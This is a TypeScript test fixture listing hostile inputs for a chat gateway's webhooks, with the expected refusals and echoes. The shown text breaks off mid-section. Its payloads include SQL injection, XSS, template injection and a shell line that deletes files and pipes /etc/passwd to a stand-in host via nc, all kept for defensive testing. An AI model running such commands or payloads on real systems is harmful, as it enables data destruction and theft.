/**
 * Hostile and broken traffic for every way into the gateway, as a table: each
 * case names its surface, what is sent and what must happen. Run by
 * test/bad-input.test.ts against one gateway with every channel on (see
 * all-channels.ts) and the echo bot, which answers `You said: "<text>".`
 *
 * What "must happen" is one of:
 * - refused: a 4xx whose JSON body's `error` says why (HTTP), or an error
 *   frame with a code and a reason (web chat), or the socket closed with a
 *   code (web chat, a frame over the size limit);
 * - answered: accepted (2xx / ack), and the bot answers it exactly once; the
 *   answer must contain each of `contains`;
 * - ignored: accepted (2xx), not something to answer, and nothing is sent.
 *
 * Every case that expects an answer writes from an address of its own (phone
 * number, chat, conversation, visitor), so its answers can be counted.
 */
import { randomUUID } from 'node:crypto';
import { signedTwilioRequest, TWILIO_TEST, twilioSid } from '../../packages/channels/src/twilio/cases.js';
import { ALL_CHANNELS_SECRETS, WHATSAPP_NUMBER } from './all-channels.js';
import { whatsappChat } from './fakes/whatsapp.js';

export type Surface = 'twilio' | 'twilio-status' | 'telegram' | 'botframework' | 'whatsapp' | 'webchat';

export type Expectation =
  | { refused: number; reason: RegExp }
  /** Taken (2xx) and put on the queue; the answer is not looked for (a process with MicrosoftAppId cannot reach Entra ID here). */
  | { accepted: number }
  | { answered: true; contains: string[]; status?: number }
  | { ignored: true; status?: number };

export interface HttpRequestSpec {
  method?: string;
  path: string;
  headers: Record<string, string>;
  body?: string | Uint8Array<ArrayBuffer>;
}

/** Where replies to a case go: the recipient its answers are counted for. */
export type Recipient =
  | { channel: 'sms'; phone: string }
  | { channel: 'telegram'; chatId: number }
  | { channel: 'botframework'; conversationId: string }
  | { channel: 'whatsapp'; chatId: string }
  | { channel: 'webchat' };

export interface HttpCase {
  name: string;
  surface: Exclude<Surface, 'whatsapp' | 'webchat'>;
  /** Several requests in order (a replay sends the same one twice); each gets the expectation's status. */
  requests: HttpRequestSpec[];
  expect: Expectation;
  recipient?: Recipient;
}

export interface WhatsappCase {
  name: string;
  surface: 'whatsapp';
  /** Message models delivered in order (a replay delivers the same one twice). */
  messages: Array<Record<string, unknown>>;
  contact?: { pushname?: string; name?: string };
  expect: Exclude<Expectation, { refused: number } | { accepted: number }>;
  recipient?: Recipient;
}

export interface WebchatCase {
  name: string;
  surface: 'webchat';
  hello?: Record<string, unknown>;
  /** Raw frames after the hello: text (not always JSON) or binary. */
  frames: Array<string | { binary: Uint8Array }>;
  expect:
    | { error: string; reason: RegExp }
    | { closed: number }
    | { answered: true; contains: string[]; acks: number; duplicates?: number };
}

export type HostileCase = HttpCase | WhatsappCase | WebchatCase;

export interface CorpusContext {
  /** The fake Bot Connector: activities' serviceUrl (loopback, as open mode requires). */
  connectorUrl: string;
}

// ---------------------------------------------------------------- hostile texts

const TEN_THOUSAND = (start: string, end: string) =>
  `${start}${'Lorem ipsum dolor sit amet. '.repeat(400)}`.slice(0, 10_000 - end.length) + end;

/** Texts that try something, each with what its echo must still contain. */
export const HOSTILE_TEXTS: Array<{ name: string; text: string; contains: string[] }> = [
  {
    name: 'SQL injection',
    text: "Robert'); DROP TABLE contacts;-- OR '1'='1",
    contains: ["DROP TABLE contacts;-- OR '1'='1"],
  },
  {
    name: 'HTML and script',
    text: '<script>alert("x")</script><img src=x onerror=alert(1)>',
    contains: ['<script>alert("x")</script><img src=x onerror=alert(1)>'],
  },
  {
    name: 'template injection',
    // A JavaScript template's placeholder, on purpose in a plain string.
    text: `{{constructor.constructor('return process')()}} \${process.env.ADMIN_TOKEN} #{7*7} <%= 7*7 %> {{text}}`,
    contains: ["{{constructor.constructor('return process')()}}", `\${process.env.ADMIN_TOKEN}`, '{{text}}'],
  },
  {
    name: 'shell injection',
    text: '$(rm -rf /) `id`; cat /etc/passwd | nc evil.example 1 && echo',
    contains: ['$(rm -rf /) `id`'],
  },
  {
    name: 'log forging newlines',
    text: 'fine\n{"level":"error","msg":"forged line"}\r\nINFO admin logged in',
    contains: ['{"level":"error","msg":"forged line"}', 'INFO admin logged in'],
  },
  {
    name: 'prototype keys',
    text: '__proto__ constructor prototype toString',
    contains: ['__proto__ constructor prototype'],
  },
  { name: 'NUL byte', text: 'before\u0000after', contains: ['before', 'after'] },
  {
    name: 'zero-width characters',
    text: 'zero\u200Bwidth\u200C\u200Djoin\u2060ers',
    contains: ['zero', 'width', 'ers'],
  },
  {
    name: 'combining marks (zalgo)',
    text: 'Z\u0334\u0321\u032A\u035Aa\u0335\u0331l\u0336g\u0335o',
    contains: ['Z\u0334\u0321\u032A\u035Aa'],
  },
  { name: 'byte order mark', text: '\uFEFFbom first', contains: ['bom first'] },
  {
    name: 'emoji sequences',
    text: '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇫🇷 family',
    contains: ['👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇫🇷 family'],
  },
  {
    name: 'right-to-left and bidi overrides',
    text: 'مرحبا \u202Egnp.exe\u202C שלום',
    contains: ['مرحبا', 'שלום', 'gnp.exe'],
  },
  { name: 'lone surrogate', text: 'lone \uD800 surrogate', contains: ['lone', 'surrogate'] },
  {
    name: '10,000 characters',
    text: TEN_THOUSAND('BEGIN-MARK ', ' END-MARK'),
    contains: ['BEGIN-MARK', 'END-MARK'],
  },
];

// ---------------------------------------------------------------- Twilio

let phoneCounter = 0;
/** A French mobile number of its own for each case (E.164), all listed for the log scan. */
export const PHONES_USED: string[] = [];
function phone(): string {
  phoneCounter += 1;
  const number = `+33639${String(700000 + phoneCounter).padStart(6, '0')}`;
  PHONES_USED.push(number);
  return number;
}

let sidCounter = 0x8000;
const sid = () => twilioSid('SM', ++sidCounter);

function smsForm(from: string, body: string, extra: Record<string, string> = {}): Record<string, string> {
  const id = sid();
  return {
    ToCountry: 'FR',
    SmsMessageSid: id,
    NumMedia: '0',
    SmsSid: id,
    SmsStatus: 'received',
    Body: body,
    FromCountry: 'FR',
    To: TWILIO_TEST.from,
    NumSegments: '1',
    MessageSid: id,
    AccountSid: TWILIO_TEST.accountSid,
    From: from,
    ApiVersion: '2010-04-01',
    ...extra,
  };
}

const signed = (path: string, form: Record<string, string | string[]>, options = {}): HttpRequestSpec => {
  const request = signedTwilioRequest(path, form, options);
  return { path: request.path, headers: { ...request.headers }, body: request.body };
};

function twilioCases(): HttpCase[] {
  const cases: HttpCase[] = [];
  const refused = (
    name: string,
    request: HttpRequestSpec,
    status: number,
    reason: RegExp,
    surface: HttpCase['surface'] = 'twilio',
  ) => cases.push({ name, surface, requests: [request], expect: { refused: status, reason } });
  const good = () => signed('/webhooks/twilio', smsForm(phone(), 'signed but tampered'));

  refused(
    'no signature',
    { ...good(), headers: { 'content-type': 'application/x-www-form-urlencoded' } },
    403,
    /missing X-Twilio-Signature/,
  );
  {
    const request = good();
    refused(
      'empty signature',
      { ...request, headers: { ...request.headers, 'x-twilio-signature': '' } },
      403,
      /missing X-Twilio-Signature/,
    );
  }
  refused(
    'signed with another auth token',
    signed('/webhooks/twilio', smsForm(phone(), 'forged'), { authToken: 'f'.repeat(32) }),
    403,
    /does not match/,
  );
  refused(
    'signed for another URL',
    signed('/webhooks/twilio', smsForm(phone(), 'elsewhere'), { signedUrl: 'https://evil.example/webhooks/twilio' }),
    403,
    /does not match/,
  );
  {
    const request = good();
    refused(
      'body changed after signing',
      { ...request, body: String(request.body).replace('tampered', 'TAMPERED') },
      403,
      /does not match/,
    );
  }
  {
    const request = good();
    refused(
      'signature of another request (a different MessageSid) replayed',
      { ...request, headers: { ...signed('/webhooks/twilio', smsForm(phone(), 'other')).headers } },
      403,
      /does not match/,
    );
  }
  refused(
    'valid signature but another account',
    signed('/webhooks/twilio', smsForm(phone(), 'other account', { AccountSid: `AC${'1'.repeat(32)}` })),
    403,
    /AccountSid is not the account/,
  );
  refused(
    'JSON instead of a form',
    { path: '/webhooks/twilio', headers: { 'content-type': 'application/json' }, body: '{"Body":"hi"}' },
    415,
    /expected an application\/x-www-form-urlencoded body/,
  );
  refused(
    'no content type',
    { path: '/webhooks/twilio', headers: {}, body: new TextEncoder().encode('Body=hi') as Uint8Array<ArrayBuffer> },
    415,
    /no content type/,
  );
  refused(
    'multipart form',
    {
      path: '/webhooks/twilio',
      headers: { 'content-type': 'multipart/form-data; boundary=x' },
      body: '--x\r\nContent-Disposition: form-data; name="Body"\r\n\r\nhi\r\n--x--',
    },
    415,
    /x-www-form-urlencoded/,
  );
  refused(
    'empty body',
    {
      path: '/webhooks/twilio',
      headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': 'x' },
      body: '',
    },
    400,
    /empty body/,
  );
  refused(
    'body that is not UTF-8',
    {
      path: '/webhooks/twilio',
      headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': 'x' },
      body: Uint8Array.from([0x42, 0x6f, 0x64, 0x79, 0x3d, 0xff, 0xfe, 0xc3]),
    },
    400,
    /not valid UTF-8/,
  );
  refused(
    'a 100 kB body',
    {
      path: '/webhooks/twilio',
      headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': 'x' },
      body: `Body=${'a'.repeat(100_000)}`,
    },
    413,
    /body larger than 65536 bytes/,
  );
  refused(
    'malformed form (bare percent signs and ampersands)',
    {
      path: '/webhooks/twilio',
      headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': 'AAAA' },
      body: '%%%&&&=&=%zz&Body=%E0%A4%A',
    },
    403,
    /does not match/,
  );
  {
    const from = phone();
    const form = smsForm(from, 'twice');
    refused(
      'MessageSid given twice',
      signed('/webhooks/twilio', { ...form, MessageSid: [form.MessageSid as string, sid()] }),
      400,
      /MessageSid is given more than once/,
    );
  }
  refused(
    'From missing',
    signed('/webhooks/twilio', (({ From: _f, ...rest }) => rest)(smsForm(phone(), 'no from'))),
    400,
    /From is missing/,
  );
  refused(
    'a WhatsApp sender on the SMS webhook',
    signed('/webhooks/twilio', smsForm(`whatsapp:${phone()}`, 'wa')),
    400,
    /SMS webhook only takes SMS/,
  );
  refused(
    'NumMedia out of range',
    signed('/webhooks/twilio', smsForm(phone(), 'media', { NumMedia: '9999' })),
    400,
    /NumMedia must be 0 to/,
  );
  refused(
    'media URL that is not http(s)',
    signed(
      '/webhooks/twilio',
      smsForm(phone(), 'media', { NumMedia: '1', MediaUrl0: 'file:///etc/passwd', MediaContentType0: 'image/jpeg' }),
    ),
    400,
    /MediaUrl0 is not an http\(s\) URL/,
  );
  cases.push({
    name: 'GET on the webhook',
    surface: 'twilio',
    requests: [{ method: 'GET', path: '/webhooks/twilio', headers: {} }],
    expect: { refused: 404, reason: /not found/ },
  });

  // Signed hostile texts: accepted and echoed, once.
  for (const hostile of HOSTILE_TEXTS.filter((item) =>
    [
      'SQL injection',
      'HTML and script',
      'log forging newlines',
      'NUL byte',
      'emoji sequences',
      'right-to-left and bidi overrides',
      '10,000 characters',
    ].includes(item.name),
  )) {
    const from = phone();
    cases.push({
      name: `signed SMS: ${hostile.name}`,
      surface: 'twilio',
      requests: [signed('/webhooks/twilio', smsForm(from, hostile.text))],
      expect: { answered: true, contains: hostile.contains, status: 200 },
      recipient: { channel: 'sms', phone: from },
    });
  }
  {
    // Parameter names that are also Object.prototype's: Twilio signs what it sends, the decoder must keep it.
    const from = phone();
    const form: Record<string, string> = Object.assign(Object.create(null), smsForm(from, 'odd parameter names'), {
      constructor: 'x',
      toString: 'y',
      hasOwnProperty: 'z',
    });
    cases.push({
      name: 'signed SMS with parameters named constructor, toString and hasOwnProperty',
      surface: 'twilio',
      requests: [signed('/webhooks/twilio', form)],
      expect: { answered: true, contains: ['odd parameter names'], status: 200 },
      recipient: { channel: 'sms', phone: from },
    });
  }
  {
    const from = phone();
    const request = signed('/webhooks/twilio', smsForm(from, 'replayed sms'));
    cases.push({
      name: 'the same MessageSid delivered twice (Twilio retries): answered once',
      surface: 'twilio',
      requests: [request, request],
      expect: { answered: true, contains: ['replayed sms'], status: 200 },
      recipient: { channel: 'sms', phone: from },
    });
  }

  // Status callbacks.
  const status = (extra: Record<string, string>, drop: string[] = []) => {
    const form: Record<string, string> = {
      SmsSid: sid(),
      SmsStatus: 'delivered',
      MessageStatus: 'delivered',
      To: phone(),
      MessageSid: '',
      AccountSid: TWILIO_TEST.accountSid,
      From: TWILIO_TEST.from,
      ApiVersion: '2010-04-01',
      ...extra,
    };
    form.MessageSid ||= form.SmsSid as string;
    for (const name of drop) delete form[name];
    return signed('/webhooks/twilio/status', form);
  };
  refused(
    'status: no signature',
    { ...status({}), headers: { 'content-type': 'application/x-www-form-urlencoded' } },
    403,
    /missing X-Twilio-Signature/,
    'twilio-status',
  );
  refused(
    'status: MessageStatus missing',
    status({}, ['MessageStatus', 'SmsStatus']),
    400,
    /MessageStatus is missing/,
    'twilio-status',
  );
  refused(
    'status: MessageStatus with an injection',
    status({ MessageStatus: "delivered'; DROP TABLE deliveries;--" }),
    400,
    /MessageStatus is not a valid value/,
    'twilio-status',
  );
  refused(
    'status: ErrorCode not a number',
    status({ MessageStatus: 'failed', ErrorCode: '<script>' }),
    400,
    /ErrorCode is not a number/,
    'twilio-status',
  );
  refused(
    'status: JSON body',
    { path: '/webhooks/twilio/status', headers: { 'content-type': 'application/json' }, body: '{}' },
    415,
    /x-www-form-urlencoded/,
    'twilio-status',
  );
  cases.push({
    name: 'status: for a message we never sent',
    surface: 'twilio-status',
    requests: [status({})],
    expect: { ignored: true, status: 204 },
  });
  {
    const request = status({ MessageStatus: 'undelivered', ErrorCode: '30003' });
    cases.push({
      name: 'status: the same callback twice',
      surface: 'twilio-status',
      requests: [request, request],
      expect: { ignored: true, status: 204 },
    });
  }
  return cases;
}

// ---------------------------------------------------------------- Telegram

let chatCounter = 0;
const chat = () => 710_000_000 + ++chatCounter;
let updateCounter = 880_000_000;
let telegramMessageCounter = 0;

function telegramUpdate(
  chatId: number,
  text: string,
  extra: { from?: Record<string, unknown>; date?: number; updateId?: number } = {},
) {
  return {
    update_id: extra.updateId ?? ++updateCounter,
    message: {
      message_id: ++telegramMessageCounter,
      from: { id: chatId, is_bot: false, first_name: 'Zoé', language_code: 'fr', ...extra.from },
      chat: { id: chatId, first_name: 'Zoé', type: 'private' },
      date: extra.date ?? Math.floor(Date.now() / 1000),
      text,
    },
  };
}

const telegramHeaders = (extra: Record<string, string> = {}): Record<string, string> => ({
  'content-type': 'application/json',
  'x-telegram-bot-api-secret-token': ALL_CHANNELS_SECRETS.telegramWebhookSecret,
  ...extra,
});

const telegramPost = (body: string | Uint8Array<ArrayBuffer>, headers = telegramHeaders()): HttpRequestSpec => ({
  path: '/webhooks/telegram',
  headers,
  body,
});

function telegramCases(): HttpCase[] {
  const cases: HttpCase[] = [];
  const refused = (name: string, request: HttpRequestSpec, status: number, reason: RegExp) =>
    cases.push({ name, surface: 'telegram', requests: [request], expect: { refused: status, reason } });
  const body = () => JSON.stringify(telegramUpdate(chat(), 'hi'));

  refused(
    'no secret header',
    telegramPost(body(), { 'content-type': 'application/json' }),
    401,
    /missing X-Telegram-Bot-Api-Secret-Token/,
  );
  refused(
    'wrong secret',
    telegramPost(body(), telegramHeaders({ 'x-telegram-bot-api-secret-token': 'guess_0123' })),
    403,
    /wrong X-Telegram-Bot-Api-Secret-Token/,
  );
  refused(
    'secret in another case',
    telegramPost(
      body(),
      telegramHeaders({ 'x-telegram-bot-api-secret-token': ALL_CHANNELS_SECRETS.telegramWebhookSecret.toUpperCase() }),
    ),
    403,
    /wrong/,
  );
  refused(
    'the bot token as the secret',
    telegramPost(body(), telegramHeaders({ 'x-telegram-bot-api-secret-token': ALL_CHANNELS_SECRETS.telegramToken })),
    403,
    /wrong/,
  );
  refused(
    'a form instead of JSON',
    telegramPost('update_id=1', telegramHeaders({ 'content-type': 'application/x-www-form-urlencoded' })),
    415,
    /content type must be application\/json/,
  );
  refused('no content type', telegramPost(body(), telegramHeaders({ 'content-type': '' })), 415, /application\/json/);
  refused('malformed JSON', telegramPost('{"update_id": 1, "message": {'), 400, /body is not valid JSON/);
  refused('JSON with a trailing comma', telegramPost('{"update_id": 1,}'), 400, /not valid JSON/);
  refused('a JSON array', telegramPost('[1,2,3]'), 400, /must be a JSON object/);
  refused('a JSON string', telegramPost('"update"'), 400, /must be a JSON object/);
  refused('null', telegramPost('null'), 400, /must be a JSON object/);
  refused(
    'update_id missing',
    telegramPost(JSON.stringify({ message: telegramUpdate(chat(), 'x').message })),
    400,
    /update_id/,
  );
  refused(
    'update_id negative',
    telegramPost(JSON.stringify({ ...telegramUpdate(chat(), 'x'), update_id: -5 })),
    400,
    /update_id/,
  );
  refused(
    'chat id a string',
    telegramPost(
      JSON.stringify(
        ((update) => ({ ...update, message: { ...update.message, chat: { id: '1 OR 1=1', type: 'private' } } }))(
          telegramUpdate(chat(), 'x'),
        ),
      ),
    ),
    400,
    /message\.chat\.id/,
  );
  refused(
    'a 2 MB body',
    telegramPost(JSON.stringify({ update_id: 1, padding: 'x'.repeat(2_000_000) })),
    413,
    /body larger than 1mb/,
  );
  refused(
    'nested 100,000 deep',
    telegramPost(`{"update_id":1,"message":${'['.repeat(100_000)}${']'.repeat(100_000)}}`),
    400,
    /not a Telegram Update: message: Invalid input: expected object, received array/,
  );
  refused(
    'Latin-1 charset',
    telegramPost(body(), telegramHeaders({ 'content-type': 'application/json; charset=iso-8859-1' })),
    415,
    /UTF-8/,
  );

  const answered = (
    name: string,
    text: string,
    contains: string[],
    extra: Parameters<typeof telegramUpdate>[2] = {},
  ) => {
    const chatId = chat();
    cases.push({
      name,
      surface: 'telegram',
      requests: [telegramPost(JSON.stringify(telegramUpdate(chatId, text, extra)))],
      expect: { answered: true, contains, status: 200 },
      recipient: { channel: 'telegram', chatId },
    });
  };
  for (const hostile of HOSTILE_TEXTS) answered(`text: ${hostile.name}`, hostile.text, hostile.contains);
  answered('a name made of injections', 'my name is odd', ['my name is odd'], {
    from: { first_name: '<script>alert(1)</script>', last_name: "'; DROP TABLE contacts;--", username: '__proto__' },
  });
  answered('an update from 1970 (old timestamp)', 'written long ago', ['written long ago'], { date: 1 });
  {
    const chatId = chat();
    const update = JSON.stringify({
      ...telegramUpdate(chatId, 'prototype update'),
      __proto__: { polluted: true },
      constructor: { prototype: { polluted: true } },
    });
    cases.push({
      name: '__proto__ and constructor keys in the update',
      surface: 'telegram',
      requests: [telegramPost(update.replace('"update_id"', '"__proto__":{"polluted":true},"update_id"'))],
      expect: { answered: true, contains: ['prototype update'], status: 200 },
      recipient: { channel: 'telegram', chatId },
    });
  }
  {
    const chatId = chat();
    const request = telegramPost(JSON.stringify(telegramUpdate(chatId, 'replayed update')));
    cases.push({
      name: 'the same update_id delivered twice: answered once',
      surface: 'telegram',
      requests: [request, request],
      expect: { answered: true, contains: ['replayed update'], status: 200 },
      recipient: { channel: 'telegram', chatId },
    });
  }
  {
    const chatId = chat();
    cases.push({
      name: 'an edited message (not handled)',
      surface: 'telegram',
      requests: [
        telegramPost(
          JSON.stringify({ update_id: ++updateCounter, edited_message: telegramUpdate(chatId, 'edited').message }),
        ),
      ],
      expect: { ignored: true, status: 200 },
      recipient: { channel: 'telegram', chatId },
    });
  }
  {
    const chatId = -chat();
    cases.push({
      name: 'a group message',
      surface: 'telegram',
      requests: [
        telegramPost(
          JSON.stringify(
            ((update) => ({
              ...update,
              message: { ...update.message, chat: { id: chatId, type: 'group', title: 'g' } },
            }))(telegramUpdate(chatId, 'group text')),
          ),
        ),
      ],
      expect: { ignored: true, status: 200 },
      recipient: { channel: 'telegram', chatId },
    });
  }
  return cases;
}

// ---------------------------------------------------------------- Bot Framework

let activityCounter = 0;

function teamsActivity(ctx: CorpusContext, conversation: string, text: string, extra: Record<string, unknown> = {}) {
  activityCounter += 1;
  return {
    type: 'message',
    id: `1795${String(activityCounter).padStart(9, '0')}`,
    timestamp: new Date().toISOString(),
    channelId: 'msteams',
    serviceUrl: ctx.connectorUrl,
    from: { id: `29:user-${conversation}`, name: 'Camille Martin' },
    conversation: { conversationType: 'personal', tenantId: 'tenant-bad-input', id: `a:${conversation}` },
    recipient: { id: '28:bot', name: 'Maison Lumière' },
    text,
    locale: 'fr-FR',
    ...extra,
  };
}

const bfPost = (
  body: string | Uint8Array<ArrayBuffer>,
  headers: Record<string, string> = { 'content-type': 'application/json' },
): HttpRequestSpec => ({ path: '/api/messages', headers, body });

function botframeworkCases(ctx: CorpusContext): HttpCase[] {
  const cases: HttpCase[] = [];
  const refused = (name: string, request: HttpRequestSpec, status: number, reason: RegExp) =>
    cases.push({ name, surface: 'botframework', requests: [request], expect: { refused: status, reason } });
  const conversation = () => `bad-${randomUUID().slice(0, 8)}`;
  const activity = (text = 'hi', extra: Record<string, unknown> = {}) =>
    teamsActivity(ctx, conversation(), text, extra);

  refused('malformed JSON', bfPost('{"type":"message",'), 400, /body is not valid JSON/);
  refused(
    'text/plain',
    bfPost(JSON.stringify(activity()), { 'content-type': 'text/plain' }),
    415,
    /Content-Type must be application\/json/,
  );
  refused('no content type', bfPost(JSON.stringify(activity()), {}), 415, /Content-Type must be application\/json/);
  refused(
    'a 300 kB body',
    bfPost(JSON.stringify(activity('big', { channelData: { padding: 'x'.repeat(300_000) } }))),
    413,
    /larger than 256kb/,
  );
  refused(
    'nested 100,000 deep',
    bfPost(`{"type":"message","value":${'['.repeat(100_000)}${']'.repeat(100_000)}}`),
    400,
    /nested deeper than 64 levels/,
  );
  refused('not an activity (an array)', bfPost('[]'), 400, /not a Bot Framework activity/);
  refused('a JSON string', bfPost('"message"'), 400, /not a Bot Framework activity: body/);
  refused('null', bfPost('null'), 400, /not a Bot Framework activity: body/);
  refused(
    'conversation missing',
    bfPost(JSON.stringify({ ...activity(), conversation: undefined })),
    400,
    /not a Bot Framework activity: conversation/,
  );
  refused(
    'serviceUrl not a URL',
    bfPost(JSON.stringify(activity('x', { serviceUrl: 'not a url' }))),
    400,
    /not a Bot Framework activity: serviceUrl/,
  );
  refused(
    'serviceUrl with a javascript: scheme',
    bfPost(JSON.stringify(activity('x', { serviceUrl: 'javascript:alert(1)//' }))),
    403,
    /only the Bot Framework Emulator on this machine/,
  );
  refused(
    'serviceUrl elsewhere (open mode serves loopback only)',
    bfPost(JSON.stringify(activity('x', { serviceUrl: 'https://evil.example/' }))),
    403,
    /only the Bot Framework Emulator on this machine/,
  );
  refused(
    'serviceUrl with a path on loopback',
    bfPost(JSON.stringify(activity('x', { serviceUrl: `${ctx.connectorUrl}/v3/../../admin` }))),
    403,
    /only the Bot Framework Emulator/,
  );
  refused(
    'serviceUrl with credentials',
    bfPost(JSON.stringify(activity('x', { serviceUrl: ctx.connectorUrl.replace('http://', 'http://user:pass@') }))),
    403,
    /only the Bot Framework Emulator/,
  );
  refused(
    'a channel not served here',
    bfPost(JSON.stringify(activity('x', { channelId: 'slack' }))),
    400,
    /not served here/,
  );
  refused('an empty type', bfPost(JSON.stringify(activity('x', { type: '' }))), 400, /type must not be empty/);

  const deepArrays = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
  const deepObjects = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
  const withField = (field: string, json: string) =>
    JSON.stringify(activity('deep')).replace('"type":"message"', `"type":"message","${field}":${json}`);
  refused(
    'a valid activity whose value nests 50,000 arrays',
    bfPost(withField('value', deepArrays(50_000))),
    400,
    /nested deeper than 64 levels/,
  );
  refused(
    'a valid activity whose channelData nests 20,000 objects',
    bfPost(withField('channelData', deepObjects(20_000))),
    400,
    /nested deeper than 64 levels/,
  );

  const answered = (name: string, text: string, contains: string[], extra: Record<string, unknown> = {}) => {
    const id = conversation();
    cases.push({
      name,
      surface: 'botframework',
      requests: [bfPost(JSON.stringify(teamsActivity(ctx, id, text, extra)))],
      expect: { answered: true, contains, status: 200 },
      recipient: { channel: 'botframework', conversationId: `a:${id}` },
    });
  };
  for (const hostile of HOSTILE_TEXTS.filter(
    (item) => !['combining marks (zalgo)', 'byte order mark'].includes(item.name),
  )) {
    answered(`text: ${hostile.name}`, hostile.text, hostile.contains);
  }
  answered('names made of injections', 'names are odd', ['names are odd'], {
    from: { id: '29:user-names', name: '<img src=x onerror=alert(1)>{{7*7}}' },
  });
  answered('an activity from 2001 (old timestamp)', 'from long ago', ['from long ago'], {
    timestamp: '2001-01-01T00:00:00.000Z',
  });
  answered('__proto__ and constructor keys in channelData', 'prototype keys', ['prototype keys'], {
    channelData: JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
  });
  answered('channelData nested 20 levels (as real ones nest)', 'moderately nested', ['moderately nested'], {
    channelData: JSON.parse(deepObjects(20)),
  });
  answered('a bearer token in open mode (ignored: no token is checked)', 'token in open mode', ['token in open mode']);
  {
    const id = conversation();
    const request = bfPost(JSON.stringify(teamsActivity(ctx, id, 'replayed activity')));
    cases.push({
      name: 'the same activity id delivered twice: answered once',
      surface: 'botframework',
      requests: [request, request],
      expect: { answered: true, contains: ['replayed activity'], status: 200 },
      recipient: { channel: 'botframework', conversationId: `a:${id}` },
    });
  }
  {
    const id = conversation();
    cases.push({
      name: 'a typing activity (nothing for the bot)',
      surface: 'botframework',
      requests: [bfPost(JSON.stringify({ ...teamsActivity(ctx, id, ''), type: 'typing', text: undefined }))],
      expect: { ignored: true, status: 200 },
      recipient: { channel: 'botframework', conversationId: `a:${id}` },
    });
  }
  // The bearer token case sends a header too.
  const tokenCase = cases.find((item) => item.name.startsWith('a bearer token in open mode'));
  if (tokenCase?.requests[0])
    tokenCase.requests[0].headers = { 'content-type': 'application/json', authorization: 'Bearer not.a.jwt' };
  return cases;
}

/** What the token cases need: a fake Bot Framework login service that signs tokens, and our app id. */
export interface JwtContext extends CorpusContext {
  appId: string;
  token(options: {
    key?: 'main' | 'teams-only' | 'rogue';
    expiresIn?: number;
    issuer?: string;
    appId?: string;
    serviceUrl?: string;
  }): string;
}

/**
 * Bot Framework tokens, for a gateway with MicrosoftAppId set whose signing keys come from the fake
 * login service (BOTFRAMEWORK_OPENID_METADATA_URL): every way a token can be missing, forged, stale or
 * meant for someone else is refused with a 401; a good one is taken, once even when delivered twice.
 */
export function botframeworkJwtCases(ctx: JwtContext): HttpCase[] {
  const cases: HttpCase[] = [];
  const body = (extra: Record<string, unknown> = {}) =>
    JSON.stringify(teamsActivity(ctx, `jwt-${randomUUID().slice(0, 8)}`, 'token check', extra));
  const withAuth = (authorization: string | undefined, payload = body()): HttpRequestSpec =>
    bfPost(payload, { 'content-type': 'application/json', ...(authorization === undefined ? {} : { authorization }) });
  const refused = (name: string, request: HttpRequestSpec, reason: RegExp, status = 401) =>
    cases.push({
      name: `token: ${name}`,
      surface: 'botframework',
      requests: [request],
      expect: { refused: status, reason },
    });
  const bearer = (options: Parameters<JwtContext['token']>[0] = {}) => `Bearer ${ctx.token(options)}`;

  refused('no Authorization header', withAuth(undefined), /missing Authorization header/);
  refused('not a JWT', withAuth('Bearer not.a.jwt'), /unauthorized/);
  refused('an empty bearer', withAuth('Bearer '), /unauthorized|missing Authorization/);
  refused('basic credentials', withAuth('Basic dXNlcjpwYXNzd29yZA=='), /unauthorized/);
  refused('expired an hour ago', withAuth(bearer({ expiresIn: -3600 })), /unauthorized/);
  refused('signed by a key the service never published (forged)', withAuth(bearer({ key: 'rogue' })), /unauthorized/);
  refused(
    'issued for another bot (audience)',
    withAuth(bearer({ appId: '00000000-0000-4000-8000-000000000000' })),
    /unauthorized/,
  );
  refused('from another issuer', withAuth(bearer({ issuer: 'https://evil.example' })), /unauthorized/);
  refused('naming another serviceUrl', withAuth(bearer({ serviceUrl: 'https://evil.example/' })), /unauthorized/);
  refused(
    'a Teams-only key on a Messenger activity (not endorsed)',
    withAuth(bearer({ key: 'teams-only' }), body({ channelId: 'facebook', conversation: { id: 'psid-1-page' } })),
    /unauthorized/,
  );
  refused('a good token on malformed JSON', withAuth(bearer(), '{"type":'), /body is not valid JSON/, 400);
  cases.push({
    name: 'token: a good token and activity',
    surface: 'botframework',
    requests: [withAuth(bearer())],
    expect: { accepted: 200 },
  });
  {
    const request = withAuth(bearer());
    cases.push({
      name: 'token: a good activity delivered twice',
      surface: 'botframework',
      requests: [request, request],
      expect: { accepted: 200 },
    });
  }
  return cases;
}

// ---------------------------------------------------------------- WhatsApp

let whatsappCounter = 0;
function whatsappNumber(): string {
  whatsappCounter += 1;
  const digits = `33612${String(340000 + whatsappCounter).padStart(6, '0')}`;
  PHONES_USED.push(`+${digits}`);
  return digits;
}

function whatsappMessage(fromDigits: string, body: string, extra: Record<string, unknown> = {}) {
  const from = `${fromDigits}@c.us`;
  const id = `3EB0BAD${randomUUID().replace(/-/g, '').slice(0, 13).toUpperCase()}`;
  return { ...whatsappChat({ from, to: `${WHATSAPP_NUMBER}@c.us`, id, body, notifyName: 'Zoé Martin' }), ...extra };
}

function whatsappCases(): WhatsappCase[] {
  const cases: WhatsappCase[] = [];
  const answered = (name: string, body: string, contains: string[], extra: Record<string, unknown> = {}) => {
    const digits = whatsappNumber();
    cases.push({
      name,
      surface: 'whatsapp',
      messages: [whatsappMessage(digits, body, extra)],
      expect: { answered: true, contains },
      recipient: { channel: 'whatsapp', chatId: `${digits}@c.us` },
    });
  };
  for (const hostile of HOSTILE_TEXTS.filter(
    (item) => !['lone surrogate', 'combining marks (zalgo)'].includes(item.name),
  )) {
    answered(`text: ${hostile.name}`, hostile.text, hostile.contains);
  }
  answered('a name (notifyName) made of injections', 'odd name', ['odd name'], {
    notifyName: '<script>x</script>\n{"level":"fatal"}',
  });
  answered('a message from 2001 (old timestamp)', 'old whatsapp', ['old whatsapp'], { t: 978307200 });
  const ignored = (name: string, message: Record<string, unknown>, chatId: string) =>
    cases.push({
      name,
      surface: 'whatsapp',
      messages: [message],
      expect: { ignored: true },
      recipient: { channel: 'whatsapp', chatId },
    });
  {
